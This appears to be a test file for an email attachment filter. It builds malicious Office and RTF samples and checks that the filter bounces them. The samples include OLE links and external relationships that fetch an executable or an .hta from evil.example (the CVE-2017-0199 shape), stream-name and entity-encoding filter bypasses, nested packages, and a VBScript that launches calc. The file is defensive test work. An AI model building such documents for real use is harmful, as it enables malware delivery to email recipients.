import { compoundFile, olePackageObject, packagedFile, rtfWithObject, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { fileMoniker, oleLinkStream, u32, urlMoniker } from './ole-link-builders.js';
import { useLocalStack } from './stack.js';

const stack = useLocalStack();
const kit = attackerKit(stack);
const vbs = Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n');
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]);
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const z = (s: string) => Buffer.from(`${s}\0`, 'latin1');
const docx = (embedded: Buffer) =>
  zipFile([
    {
      name: 'word/document.xml',
      data: '<w:document><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>',
    },
    { name: 'word/embeddings/oleObject1.bin', data: embedded },
  ]);
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;

// A48-12: an OLE 1 *linked* object (FormatID 1; `{\object\objlink\objupdate …}`) of class Package whose topic (the
// linked file) is an executable on a share. rtf-objects.ts readObject returns undefined for any FormatID but 2
// ("a linked object holds no file") and the object is dropped unlisted, while an Ole10Native link package to the
// same path is blocked (A47-8 read-back: "a link package is listed by its source's name"). Word keeps the link and,
// activated (or updated with \objupdate), hands the topic to the class server: the packager opens the .exe.
describe('A48-12: an RTF OLE 1 linked object naming an executable', () => {
  it('bounces an .rtf linking \\\\evil.example\\share\\invoice.exe', async () => {
    // MS-OLEDS 2.2.6 LinkedObject: header (version, FormatID 1, class, topic, item), network name, reserved,
    // link update option (1: automatic).
    const lp = (t: string) => Buffer.concat([u32(t.length + 1), z(t)]);
    const object = Buffer.concat([
      u32(0x0501),
      u32(1),
      lp('Package'),
      lp('\\\\evil.example\\share\\invoice.exe'),
      lp(''),
      lp('\\\\evil.example\\share'),
      u32(0),
      u32(1),
    ]);
    const rtf = `{\\rtf1\\ansi Invoice\\par{\\object\\objlink\\objupdate{\\*\\objclass Package}\\objw1200\\objh800{\\*\\objdata ${object.toString('hex')}}}}`;
    expect(await verdict('Invoice.rtf', Buffer.from(rtf))).toBe('BOUNCE');
  });
});

describe('(control) linked and embedded objects that open no program', () => {
  const lp = (t: string) => Buffer.concat([u32(t.length + 1), z(t)]);
  // A link to a workbook on a share (`\\files\q3\book.xlsx`) is refused since round 118 (Windows signs in to the
  // share as the user): the control links a workbook on the local drive.
  it('sends an .rtf linking a workbook on the local drive', async () => {
    const object = Buffer.concat([
      u32(0x0501),
      u32(1),
      lp('Excel.Sheet.12'),
      lp('C:\\Reports\\q3\\book.xlsx'),
      lp('Sheet1!R1C1'),
      lp(''),
      u32(0),
      u32(1),
    ]);
    const rtf = `{\\rtf1\\ansi Figures\\par{\\object\\objlink{\\*\\objdata ${object.toString('hex')}}}}`;
    expect(await verdict('Figures.rtf', Buffer.from(rtf))).toBe('DEFAULT');
  });
  it('sends a .docx embedding an object whose \\x01Ole stream is no link', async () => {
    const ole = compoundFile([
      ['\u0001Ole', Buffer.concat([u32(0x02000001), u32(0), u32(0), u32(0), u32(0)])],
    ]);
    expect(await verdict('Invoice.docx', docx(ole), DOCX)).toBe('DEFAULT');
  });
  it('bounces an object of neither kind (FormatID 5)', async () => {
    const object = Buffer.concat([u32(0x0501), u32(5), lp('Package'), lp(''), lp(''), u32(0)]);
    const rtf = `{\\rtf1\\ansi x{\\object\\objemb{\\*\\objdata ${object.toString('hex')}}}}`;
    expect(await verdict('Invoice.rtf', Buffer.from(rtf))).toBe('BOUNCE');
  });
  it('bounces a link by a moniker not read (an item moniker only)', async () => {
    const item = Buffer.from('0403000000000000c000000000000046', 'hex');
    const oleStream = Buffer.concat([u32(0x02000001), u32(1), u32(0), u32(0), u32(0), item, u32(0)]);
    const rtf = rtfWithObject('OLE2Link', compoundFile([['\u0001Ole', oleStream]]));
    expect(await verdict('Invoice.rtf', Buffer.from(rtf))).toBe('BOUNCE');
  });
});

describe('A48-12b: an RTF embedded OLE2Link object whose source is a URL (the CVE-2017-0199 shape)', () => {
  // `\x01Ole` (MS-OLEDS 2.3.3 OLEStream): version, flags 1 (a link), reserved, the reserved moniker stream size and
  // moniker (none), then the relative source moniker (none) and the absolute one: a URL moniker
  // {79EAC9E0-BAF9-11CE-8C82-00AA004BA90B} naming http://evil.example/invoice.hta. Word (\objupdate) binds it when
  // the document opens and hands the file to its handler; the guard finds no Ole10Native stream and lists nothing.
  it('bounces an .rtf whose object links to a remote .hta', async () => {
    const url = Buffer.from('http://evil.example/invoice.hta\0', 'utf16le');
    const clsid = Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex');
    const oleStream = Buffer.concat([
      u32(0x02000001),
      u32(1),
      u32(0),
      u32(0),
      u32(0),
      clsid,
      u32(url.length),
      url,
      Buffer.alloc(16),
    ]);
    const native = compoundFile([['\u0001Ole', oleStream]]);
    const rtf = rtfWithObject('OLE2Link', native).replace(
      '\\object\\objemb',
      '\\object\\objautlink\\objupdate',
    );
    expect(await verdict('Invoice.rtf', Buffer.from(rtf))).toBe('BOUNCE');
  });
});

// A48-13 (speculative): MS-CFB 2.6.4 compares directory names upper-cased code point by code point (Windows' upcase
// table): `\x01Ole10Natıve` (dotless ı, U+0131, upper-cases to I) opens as `\x01OLE10NATIVE`. ole-packages.ts
// compares with JavaScript toLowerCase (ı stays ı) and pre-checks with a non-Unicode /i regex: the package is unseen.
describe('A48-13: a package stream whose name differs from \\x01Ole10Native only as Windows upper-cases it', () => {
  it('bounces a .docx whose object stream is \\x01Ole10Natıve', async () => {
    const native = packagedFile('invoice.vbs', vbs);
    const ole = compoundFile([
      ['\u0001Ole10Nat\u0131ve', Buffer.concat([u32(native.length), native])],
      ['\u0001CompObj', Buffer.from('Package\0', 'latin1')],
    ]);
    expect(await verdict('Invoice.docx', docx(ole), DOCX)).toBe('BOUNCE');
  });
  it('(held) bounces \\x01OLE10NATIVE', async () => {
    const native = packagedFile('invoice.vbs', vbs);
    const ole = compoundFile([['\u0001OLE10NATIVE', Buffer.concat([u32(native.length), native])]]);
    expect(await verdict('Invoice.docx', docx(ole), DOCX)).toBe('BOUNCE');
  });
});

describe('held: nested packagings', () => {
  it('bounces a package holding a zip holding an exe', async () => {
    const zip = zipFile([{ name: 'invoice.exe', data: exe.toString('latin1') }]);
    expect(await verdict('Invoice.docx', docx(olePackageObject('files.zip', zip)), DOCX)).toBe('BOUNCE');
  });
  it('bounces a package holding an RTF holding a package', async () => {
    const inner = Buffer.from(rtfWithObject('Package', packagedFile('invoice.vbs', vbs)));
    expect(await verdict('Invoice.docx', docx(olePackageObject('notes.rtf', inner)), DOCX)).toBe('BOUNCE');
  });
  it('bounces an .odt embedding an OLE object (Object 1) packaging a script', async () => {
    const odt = zipFile([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' },
      { name: 'content.xml', data: '<office:document-content/>' },
      { name: 'Object 1', data: olePackageObject('invoice.vbs', vbs) },
    ]);
    expect(await verdict('Invoice.odt', odt, 'application/vnd.oasis.opendocument.text')).toBe('BOUNCE');
  });
  it('bounces an .xlsx and a .pptx embedding a package', async () => {
    const x = zipFile([{ name: 'xl/embeddings/oleObject1.bin', data: olePackageObject('invoice.vbs', vbs) }]);
    expect(
      await verdict('Book.xlsx', x, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'),
    ).toBe('BOUNCE');
    const p = zipFile([
      { name: 'ppt/embeddings/oleObject1.bin', data: olePackageObject('invoice.vbs', vbs) },
    ]);
    expect(
      await verdict(
        'Deck.pptx',
        p,
        'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      ),
    ).toBe('BOUNCE');
  });
  it('bounces a package hiding the script behind a label and temporary path of another name', async () => {
    const hidden = Buffer.concat([
      packagedFile('report.pdf', vbs),
      u32(12),
      Buffer.from('C:\\a\\run.vbs', 'utf16le'),
      u32(0),
      u32(0),
    ]);
    expect(await verdict('Invoice.rtf', Buffer.from(rtfWithObject('Package', hidden)))).toBe('BOUNCE');
  });
});

// Read-back of A48-12b: the stream framed as MS-OLEDS 2.3.3 says (reserved, relative and absolute monikers, each
// after its size plus 4), with a harmless moniker first.
describe('A48-12b (read-back): a link whose harmless moniker comes first', () => {
  const linked = (reserved: Buffer, relative: Buffer, absolute: Buffer) => {
    const stream = oleLinkStream(reserved, relative, absolute);
    const rtf = rtfWithObject('OLE2Link', compoundFile([['\u0001Ole', stream]]));
    return verdict(
      'Invoice.rtf',
      Buffer.from(rtf.replace('\\object\\objemb', '\\object\\objautlink\\objupdate')),
    );
  };
  it('bounces a .hta behind a harmless URL in the reserved moniker', async () => {
    expect(
      await linked(
        urlMoniker('http://files.example/report.pdf'),
        Buffer.alloc(0),
        urlMoniker('http://evil.example/invoice.hta'),
      ),
    ).toBe('BOUNCE');
  });
  it('bounces a SOAP moniker behind a harmless URL', async () => {
    const soap = Buffer.concat([
      Buffer.from('c7b0abec197fd211978e0000f8757e2a', 'hex'),
      u32(8),
      Buffer.from('soap:x\0\0', 'latin1'),
    ]);
    expect(await linked(urlMoniker('http://files.example/report.pdf'), Buffer.alloc(0), soap)).toBe('BOUNCE');
  });
  it('bounces a file moniker whose Unicode path names a script', async () => {
    expect(
      await linked(
        Buffer.alloc(0),
        Buffer.alloc(0),
        fileMoniker('\\\\files\\q3\\report.pdf', '\\\\evil\\s\\invoice.hta'),
      ),
    ).toBe('BOUNCE');
  });
  // On the local drive: one on a share is refused since round 118.
  it('(control) sends a link to a workbook by a file moniker', async () => {
    expect(
      await linked(
        Buffer.alloc(0),
        Buffer.alloc(0),
        fileMoniker('C:\\Reports\\q3\\book.xlsx', 'C:\\Reports\\q3\\book.xlsx'),
      ),
    ).toBe('DEFAULT');
  });
});

// Read-back of A48-12b: the same link from a .docx, as an external relationship (Word fetches an external OLE
// object, a template or a frame as the document opens; a hyperlink only when clicked).
describe('A48-12c (read-back): a .docx whose relationships link an object outside it', () => {
  const withRels = (relationship: string) =>
    zipFile([
      {
        name: 'word/document.xml',
        data: '<w:document><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>',
      },
      {
        name: 'word/_rels/document.xml.rels',
        data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
      },
    ]);
  const ole = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject';
  it('bounces an external OLE object at a remote .hta', async () => {
    const docx = withRels(
      `<Relationship Id="rId9" Type="${ole}" Target="http://evil.example/invoice.hta?x=1" TargetMode="External"/>`,
    );
    expect(await verdict('Invoice.docx', docx, DOCX)).toBe('BOUNCE');
  });
  it('bounces it with its target mode spelled by a reference', async () => {
    const docx = withRels(
      `<Relationship Id="rId9" Type="${ole}" Target="http://evil.example/invoice.hta" TargetMode="&#69;xternal"/>`,
    );
    expect(await verdict('Invoice.docx', docx, DOCX)).toBe('BOUNCE');
  });
  it('(control) sends a hyperlink to a download and a template on the disk', async () => {
    const docx = withRels(
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://vendor.example/setup.exe" TargetMode="External"/>' +
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\\Users\\ann\\Templates\\Normal.dotm" TargetMode="External"/>',
    );
    expect(await verdict('Invoice.docx', docx, DOCX)).toBe('DEFAULT');
  });
});
